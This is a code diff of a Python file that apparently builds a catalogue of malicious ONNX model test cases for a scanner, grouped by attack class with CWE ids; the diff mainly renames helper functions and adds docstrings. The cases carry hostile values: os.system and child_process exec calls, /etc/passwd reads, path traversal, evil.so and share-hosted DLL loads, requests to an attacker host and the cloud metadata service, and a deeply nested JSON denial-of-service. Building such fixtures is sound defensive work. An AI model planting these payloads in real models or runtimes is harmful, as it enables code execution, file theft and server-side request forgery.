@@ -12,10 +12,10 @@ from .writer import (
     STRING,
     X,
     Y,
-    carrier,
     function,
     graph,
     model,
+    model_with_extras,
     network,
     node,
     record,
@@ -32,7 +32,8 @@ OPSETS = (("", 21), ("local", 1))
 IDENTITY = graph([node("Identity", ["x"], ["y"])], [X], [Y])
 
 
-def custom(domain):
+def opsets_with(domain):
+    """Return the imports of the default operator set and version 1 of a domain."""
     return (("", 21), (domain, 1))
 
 
@@ -41,115 +42,122 @@ attack = declare("python-operator", "code", "An operator runs Python code or oth
 attack("pyop", "PyOp of ai.onnx.contrib (onnxruntime-extensions) calls a registered Python function.",
     network([node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", id=1)], opsets=CONTRIB))
 attack("pyop-module", "PyOp of the domain pyop names a module and a class to import.", network([node("PyOp", ["x"],
-    ["y"], domain="pyop", module="os", class_name="system", compute="popen")], opsets=custom("pyop")))
+    ["y"], domain="pyop", module="os", class_name="system", compute="popen")], opsets=opsets_with("pyop")))
 attack("python-op", "PythonOp of onnxruntime training calls an autograd function by name.", network([node("PythonOp",
     ["x"], ["c", "y"], domain="com.microsoft", func_name="os.system", input_convention="d", output_convention="d")],
     opsets=MICROSOFT))
 attack("python-op-grad", "PythonOpGrad of onnxruntime training.", network([node("PythonOpGrad", ["x", "x"], ["y"],
     domain="com.microsoft", func_name="os.system")], opsets=MICROSOFT))
 attack("aten", "ATen of org.pytorch.aten calls any operator of PyTorch.", network([node("ATen", ["x"], ["y"],
-    domain="org.pytorch.aten", operator="aten::from_file")], opsets=custom("org.pytorch.aten")))
+    domain="org.pytorch.aten", operator="aten::from_file")], opsets=opsets_with("org.pytorch.aten")))
 attack("triton", "TritonOp runs a kernel by name.", network([node("TritonOp", ["x"], ["y"], domain="com.microsoft",
     func_name="evil", onnx_string=b"...")], opsets=MICROSOFT))
 attack("triton-kernel", "A node of com.microsoft.triton.", network([node("Kernel", ["x"], ["y"],
-    domain="com.microsoft.triton", code="import os")], opsets=custom("com.microsoft.triton")))
+    domain="com.microsoft.triton", code="import os")], opsets=opsets_with("com.microsoft.triton")))
 attack("in-branch", "PyOp in a branch.", network([node("If", ["t"], ["y"], then_branch=graph([node("Identity", ["x"],
     ["a"])], [], [value("a")]), else_branch=graph([node("PyOp", ["x"], ["b"], domain="ai.onnx.contrib")], [],
     [value("b")]))], [scalar("t", True, BOOL)], opsets=CONTRIB))
 attack("in-function", "PyOp in the body of a function.", network([node("Normalize", ["x"], ["y"], domain="local")],
     opsets=OPSETS, functions=[function("Normalize", [node("PyOp", ["a"], ["b"], domain="ai.onnx.contrib")], ["a"],
     ["b"], opsets=CONTRIB)]))
-attack("in-training", "PyOp in the training algorithm.", carrier(extra=record(20, record(2, graph([node("PyOp", ["x"],
-    ["z"], domain="ai.onnx.contrib")], [X], [value("z")])))))
+attack("in-training", "PyOp in the training algorithm.", model_with_extras(extra=record(20, record(2, graph([node(
+    "PyOp", ["x"], ["z"], domain="ai.onnx.contrib")], [X], [value("z")])))))
 attack("spelled-python-op", "Python_Op, a spelling that name matching misses.", network([node("Python_Op", ["x"],
     ["y"], domain="ai.onnx.contrib")], opsets=CONTRIB))
 attack("lambda", "A Lambda of the domain keras2onnx with marshalled code.", network([node("Lambda", ["x"], ["y"],
-    domain="keras", function=b"\xe3\0\0\0\0")], opsets=custom("keras")))
+    domain="keras", function=b"\xe3\0\0\0\0")], opsets=opsets_with("keras")))
 attack("java-script", "A JavaScript operator with code in an attribute.", network([node("JSKernel", ["x"], ["y"],
-    domain="com.example.js", source="require('child_process').exec('id')")], opsets=custom("com.example.js")))
+    domain="com.example.js", source="require('child_process').exec('id')")], opsets=opsets_with("com.example.js")))
 attack("custom-kernel", "A node with PTX code for a GPU.", network([node("CudaKernel", ["x"], ["y"],
-    domain="com.example.cuda", ptx=".version 7.0\n.target sm_70\n")], opsets=custom("com.example.cuda")))
+    domain="com.example.cuda", ptx=".version 7.0\n.target sm_70\n")], opsets=opsets_with("com.example.cuda")))
 
 attack = declare("operator-file", "code", "An operator loads a file or a library that an attribute names.", "CWE-829",
     "onnxruntime-extensions, TensorRT, OpenVINO, custom runtimes")
 
 
-def opens(name, what, op, domain, inputs=("x",), **attributes):
-    attack(name, what, network([node(op, inputs, ["y"], domain=domain, **attributes)], opsets=custom(domain)))
+def file_attack(name, effect, op, domain, inputs=("x",), **attributes):
+    """Add an attack whose node reads, writes or loads a file."""
+    attack(name, effect, network([node(op, inputs, ["y"], domain=domain, **attributes)], opsets=opsets_with(domain)))
 
 
-opens("bert-tokenizer", "BertTokenizer with vocab_file /etc/passwd.", "BertTokenizer", "ai.onnx.contrib",
+file_attack("bert-tokenizer", "BertTokenizer with vocab_file /etc/passwd.", "BertTokenizer", "ai.onnx.contrib",
     vocab_file="/etc/passwd")
-opens("sentencepiece", "SentencepieceTokenizer with a model path outside of the folder.", "SentencepieceTokenizer",
-    "ai.onnx.contrib", model_path="../../secret.model")
-opens("blingfire", "BlingFireSentenceBreaker with a model path.", "BlingFireSentenceBreaker", "ai.onnx.contrib",
+file_attack("sentencepiece", "SentencepieceTokenizer with a model path outside of the folder.",
+    "SentencepieceTokenizer", "ai.onnx.contrib", model_path="../../secret.model")
+file_attack("blingfire", "BlingFireSentenceBreaker with a model path.", "BlingFireSentenceBreaker", "ai.onnx.contrib",
     model="/usr/lib/evil.bin")
-opens("custom-library", "A node that names a shared library.", "CustomOp", "com.example", library_path="./evil.so")
-opens("plugin", "A TensorRT plugin with the path of a library.", "TRT_PluginV2", "trt.plugins",
+file_attack("custom-library", "A node that names a shared library.", "CustomOp", "com.example",
+    library_path="./evil.so")
+file_attack("plugin", "A TensorRT plugin with the path of a library.", "TRT_PluginV2", "trt.plugins",
     plugin_library="/tmp/libplugin.so", plugin_name="evil")
-opens("windows-library", "A node that names a DLL on a share.", "CustomOp", "com.example",
+file_attack("windows-library", "A node that names a DLL on a share.", "CustomOp", "com.example",
     dll="\\\\192.0.2.1\\share\\evil.dll")
-opens("snpe", "Snpe of com.microsoft with a container of code for a DSP.", "Snpe", "com.microsoft", DLC=ELF, notes="")
-opens("file-reader", "FileReader of com.example reads any file.", "ReadFile", "com.example", filename="/etc/passwd")
-opens("file-writer", "A node that writes a file.", "WriteFile", "com.example", filename="/tmp/evil")
-opens("wordpiece", "WordpieceTokenizer with a vocabulary path that goes up.", "WordpieceTokenizer", "ai.onnx.contrib",
-    vocab="../../vocab.txt")
+file_attack("snpe", "Snpe of com.microsoft with a container of code for a DSP.", "Snpe", "com.microsoft", DLC=ELF,
+    notes="")
+file_attack("file-reader", "FileReader of com.example reads any file.", "ReadFile", "com.example",
+    filename="/etc/passwd")
+file_attack("file-writer", "A node that writes a file.", "WriteFile", "com.example", filename="/tmp/evil")
+file_attack("wordpiece", "WordpieceTokenizer with a vocabulary path that goes up.", "WordpieceTokenizer",
+    "ai.onnx.contrib", vocab="../../vocab.txt")
 attack("extension-read-file", "The operator of TensorFlow's ReadFile in a converter's domain, with a constant path.",
     network([node("ReadFile", ["p"], ["y"], domain="ai.onnx.converters.tensorflow")], [strings("p", ["/etc/passwd"])],
-    outputs=[value("y", STRING, [None])], opsets=custom("ai.onnx.converters.tensorflow")))
+    outputs=[value("y", STRING, [None])], opsets=opsets_with("ai.onnx.converters.tensorflow")))
 
 attack = declare("operator-network", "code", "An operator sends inputs to a server that an attribute names.",
     "CWE-918", "onnxruntime-extensions")
 
 
-def sends(name, what, op, **attributes):
-    attack(name, what, network([node(op, ["k", "x"], ["y"], domain="com.microsoft.extensions", **attributes)],
+def server_attack(name, effect, op, **attributes):
+    """Add an attack whose node sends a request to a server."""
+    attack(name, effect, network([node(op, ["k", "x"], ["y"], domain="com.microsoft.extensions", **attributes)],
         [strings("k", ["key"])], opsets=EXTENSIONS))
 
 
-sends("openai-audio", "OpenAIAudioToText with model_uri of an attacker's server.", "OpenAIAudioToText",
+server_attack("openai-audio", "OpenAIAudioToText with model_uri of an attacker's server.", "OpenAIAudioToText",
     model_uri="https://192.0.2.1/v1/audio", model_name="whisper")
-sends("azure-chat", "AzureTextToText with a model_uri.", "AzureTextToText", model_uri="https://192.0.2.1/chat",
+server_attack("azure-chat", "AzureTextToText with a model_uri.", "AzureTextToText", model_uri="https://192.0.2.1/chat",
     model_name="x")
-sends("triton-invoker", "AzureTritonInvoker with a model_uri.", "AzureTritonInvoker",
+server_attack("triton-invoker", "AzureTritonInvoker with a model_uri.", "AzureTritonInvoker",
     model_uri="http://192.0.2.1:8000", model_name="x", model_version="1")
-sends("metadata-service", "AzureTextToText whose model_uri is the metadata service of a cloud.", "AzureTextToText",
-    model_uri="http://169.254.169.254/latest/meta-data/", model_name="x")
-sends("http-request", "A generic HTTP operator.", "HttpRequest", url="http://192.0.2.1/?q=")
+server_attack("metadata-service", "AzureTextToText whose model_uri is the metadata service of a cloud.",
+    "AzureTextToText", model_uri="http://169.254.169.254/latest/meta-data/", model_name="x")
+server_attack("http-request", "A generic HTTP operator.", "HttpRequest", url="http://192.0.2.1/?q=")
 
 attack = declare("ep-context", "code", "EPContext holds or names a compiled binary, which a driver runs.", "CWE-829",
     "onnxruntime with QNN, OpenVINO, TensorRT, VitisAI")
-FIXED = "https://github.com/microsoft/onnxruntime/pull/28605"
+FIX_PAGE = "https://github.com/microsoft/onnxruntime/pull/28605"
 
 
-def context(name, what, source=FIXED, cwe="CWE-829", **attributes):
-    attack(name, what, network([node("EPContext", ["x"], ["y"], domain="com.microsoft",
+def context_attack(name, effect, source=FIX_PAGE, cwe="CWE-829", **attributes):
+    """Add an attack with an EPContext node."""
+    attack(name, effect, network([node("EPContext", ["x"], ["y"], domain="com.microsoft",
         **({"main_context": 1} | attributes))], opsets=MICROSOFT), source=source, cwe=cwe)
 
 
-context("traversal", "embed_mode 0 with the path ../../outside.bin.", cwe="CWE-22", embed_mode=0,
+context_attack("traversal", "embed_mode 0 with the path ../../outside.bin.", cwe="CWE-22", embed_mode=0,
     ep_cache_context="../../outside.bin", source="https://github.com/microsoft/onnxruntime/pull/19174")
-context("absolute", "embed_mode 0 with an absolute path.", cwe="CWE-22", embed_mode=0, ep_cache_context="/etc/passwd")
-context("windows", "embed_mode 0 with a path on drive C.", cwe="CWE-22", embed_mode=0,
+context_attack("absolute", "embed_mode 0 with an absolute path.", cwe="CWE-22", embed_mode=0,
+    ep_cache_context="/etc/passwd")
+context_attack("windows", "embed_mode 0 with a path on drive C.", cwe="CWE-22", embed_mode=0,
     ep_cache_context="C:\\Windows\\System32\\evil.dll")
-context("share", "embed_mode 0 with a path on a share.", cwe="CWE-22", embed_mode=0,
+context_attack("share", "embed_mode 0 with a path on a share.", cwe="CWE-22", embed_mode=0,
     ep_cache_context="\\\\192.0.2.1\\share\\ctx.bin")
-context("folder", "embed_mode 0 with a path in the folder: a binary that no one has checked.", embed_mode=0,
+context_attack("folder", "embed_mode 0 with a path in the folder: a binary that no one has checked.", embed_mode=0,
     ep_cache_context="context.bin", ep_sdk_version="1.0")
-context("embedded-elf", "embed_mode 1 with an ELF program.", embed_mode=1, ep_cache_context=ELF)
-context("embedded-pe", "embed_mode 1 with a Windows program.", embed_mode=1, ep_cache_context=PE)
-context("partition", "main_context 0 and another partition.", main_context=0, embed_mode=0, ep_cache_context="",
+context_attack("embedded-elf", "embed_mode 1 with an ELF program.", embed_mode=1, ep_cache_context=ELF)
+context_attack("embedded-pe", "embed_mode 1 with a Windows program.", embed_mode=1, ep_cache_context=PE)
+context_attack("partition", "main_context 0 and another partition.", main_context=0, embed_mode=0, ep_cache_context="",
     partition_name="../evil")
 attack("in-function", "EPContext in a function.", network([node("Block", ["x"], ["y"], domain="local")], opsets=OPSETS,
     functions=[function("Block", [node("EPContext", ["a"], ["b"], domain="com.microsoft", embed_mode=0,
     ep_cache_context="../evil.bin")], ["a"], ["b"], opsets=MICROSOFT)]))
 attack("engine", "TRTEngineOp with a serialized engine.", network([node("TRTEngineOp", ["x"], ["y"], domain="trt",
-    serialized_engine=ELF, engine_path="/tmp/e.plan")], opsets=custom("trt")))
+    serialized_engine=ELF, engine_path="/tmp/e.plan")], opsets=opsets_with("trt")))
 
 attack = declare("unknown-domain", "code",
     "Operators of an undocumented domain: their effect depends on a library at run time.", "CWE-829",
     "runtimes with custom operator libraries")
-for case_name, domain, what in (
+for case_name, domain, effect in (
     ("plain", "com.example.private", "A domain without a known signature."),
     ("nvidia", "nvinfer1", "A domain of plugins."),
     ("empty-looking", " ", "The domain is a space."),
@@ -158,14 +166,14 @@ for case_name, domain, what in (
     ("upper-case", "COM.MICROSOFT", "A domain in capitals."),
     ("test", "test", "The domain 'test'."),
 ):
-    attack(case_name, what, network([node("Transform", ["x"], ["y"], domain=domain)], opsets=custom(domain)))
+    attack(case_name, effect, network([node("Transform", ["x"], ["y"], domain=domain)], opsets=opsets_with(domain)))
 attack("not-imported", "A node of a domain that the model does not import.", network([node("Transform", ["x"], ["y"],
     domain="com.example.hidden")]))
 attack("standard-domain", "An operator that the default domain does not have.", network([node("LoadLibrary", ["x"],
     ["y"])]))
 attack("in-function-only", "A domain that only a function's body uses.", network([node("F", ["x"], ["y"],
     domain="local")], opsets=OPSETS, functions=[function("F", [node("Transform", ["a"], ["b"],
-    domain="com.example.deep")], ["a"], ["b"], opsets=custom("com.example.deep"))]))
+    domain="com.example.deep")], ["a"], ["b"], opsets=opsets_with("com.example.deep"))]))
 attack("microsoft-unknown", "An operator that com.microsoft does not have.", network([node("RunShell", ["x"], ["y"],
     domain="com.microsoft")], opsets=MICROSOFT))
 
@@ -174,21 +182,23 @@ attack = declare("function-shadows", "code",
     "onnx, onnxruntime, Netron, inliners")
 
 
-def shadow(name, what, op, body, domain="", inputs=("a",), opsets=(("", 21),), **options):
-    called = node(op, ["x"] * len(inputs), ["y"], domain=domain or None, **options)
-    attack(name, what, network([called], opsets=opsets, functions=[function(op, body, inputs, ["b"], domain)]))
+def shadow_attack(name, effect, op, body, domain="", inputs=("a",), opsets=(("", 21),), **options):
+    """Add an attack with a function that replaces the operator `op`."""
+    call = node(op, ["x"] * len(inputs), ["y"], domain=domain or None, **options)
+    attack(name, effect, network([call], opsets=opsets, functions=[function(op, body, inputs, ["b"], domain)]))
 
 
-shadow("relu", "Relu is Neg.", "Relu", [node("Neg", ["a"], ["b"])])
-shadow("softmax", "Softmax is Identity.", "Softmax", [node("Identity", ["a"], ["b"])])
-shadow("ai-onnx", "Relu of the domain ai.onnx, an alias of the default domain.", "Relu", [node("Neg", ["a"], ["b"])],
-    "ai.onnx", opsets=(("", 21), ("ai.onnx", 21)))
-shadow("microsoft", "Gelu of com.microsoft.", "Gelu", [node("Neg", ["a"], ["b"])], "com.microsoft", opsets=MICROSOFT)
-shadow("machine-learning", "Scaler of ai.onnx.ml.", "Scaler", [node("Neg", ["a"], ["b"])], "ai.onnx.ml", opsets=(("",
-    21), ("ai.onnx.ml", 3)))
-shadow("function-operator", "LayerNormalization, which the standard itself defines by a function.",
+shadow_attack("relu", "Relu is Neg.", "Relu", [node("Neg", ["a"], ["b"])])
+shadow_attack("softmax", "Softmax is Identity.", "Softmax", [node("Identity", ["a"], ["b"])])
+shadow_attack("ai-onnx", "Relu of the domain ai.onnx, an alias of the default domain.", "Relu", [node("Neg", ["a"], [
+    "b"])], "ai.onnx", opsets=(("", 21), ("ai.onnx", 21)))
+shadow_attack("microsoft", "Gelu of com.microsoft.", "Gelu", [node("Neg", ["a"], ["b"])], "com.microsoft",
+    opsets=MICROSOFT)
+shadow_attack("machine-learning", "Scaler of ai.onnx.ml.", "Scaler", [node("Neg", ["a"], ["b"])], "ai.onnx.ml", opsets=(
+    ("", 21), ("ai.onnx.ml", 3)))
+shadow_attack("function-operator", "LayerNormalization, which the standard itself defines by a function.",
     "LayerNormalization", [node("Mul", ["a", "s"], ["b"])], inputs=("a", "s"))
-shadow("matmul", "MatMul adds.", "MatMul", [node("Add", ["a", "c"], ["b"])], inputs=("a", "c"))
+shadow_attack("matmul", "MatMul adds.", "MatMul", [node("Add", ["a", "c"], ["b"])], inputs=("a", "c"))
 attack("overload", "Relu with an overload name.", network([node("Relu", ["x"], ["y"], extra=record(8, "fast"))],
     functions=[function("Relu", [node("Neg", ["a"], ["b"])], ["a"], ["b"], "", extra=record(13, "fast"))]))
 attack("control-flow", "If is replaced by a function that takes no branch.", network([node("If", ["t"], ["y"],
@@ -203,19 +213,21 @@ attack = declare("runtime-config", "code", "Metadata configures the runtime that
     "onnxruntime with ORT_LOAD_CONFIG_FROM_MODEL=1, tools that read options from metadata")
 
 
-def configured(name, what, options, key="ort_config"):
-    attack(name, what, model(IDENTITY, metadata=((key, options if isinstance(options, str) else json.dumps(options)),)))
+def config_attack(name, effect, options, key="ort_config"):
+    """Add an attack whose metadata has options of a runtime, as JSON."""
+    text = options if isinstance(options, str) else json.dumps(options)
+    attack(name, effect, model(IDENTITY, metadata=((key, text),)))
 
 
-configured("profiling", "ort_config turns on profiling, which writes files.",
+config_attack("profiling", "ort_config turns on profiling, which writes files.",
     {"session_options": {"enable_profiling": 1}})
-configured("threads", "ort_config asks for 100,000 threads.", {"session_options": {"intra_op_num_threads": 100000}})
-configured("unbounded-json", "ort_config is JSON nested 20,000 levels deep.", "[" * 20000 + "]" * 20000)
-configured("custom-library", "ort_config registers a library of custom operators.",
+config_attack("threads", "ort_config asks for 100,000 threads.", {"session_options": {"intra_op_num_threads": 100000}})
+config_attack("unbounded-json", "ort_config is JSON nested 20,000 levels deep.", "[" * 20000 + "]" * 20000)
+config_attack("custom-library", "ort_config registers a library of custom operators.",
     {"session_options": {"custom_op_library": "/tmp/evil.so"}})
-configured("optimized-model", "ort_config writes the optimized model to a path.",
+config_attack("optimized-model", "ort_config writes the optimized model to a path.",
     {"session_options": {"optimized_model_filepath": "/tmp/evil.onnx"}})
-configured("provider", "A metadata key of an execution provider sets the path of a cache.", "/tmp/cache/../../evil",
+config_attack("provider", "A metadata key of an execution provider sets the path of a cache.", "/tmp/cache/../../evil",
     "trt_engine_cache_path")
-configured("openvino", "The key of OpenVINO's runtime information sets a cache folder.", "/tmp/evil",
+config_attack("openvino", "The key of OpenVINO's runtime information sets a cache folder.", "/tmp/evil",
     "rt_info.cache_dir")
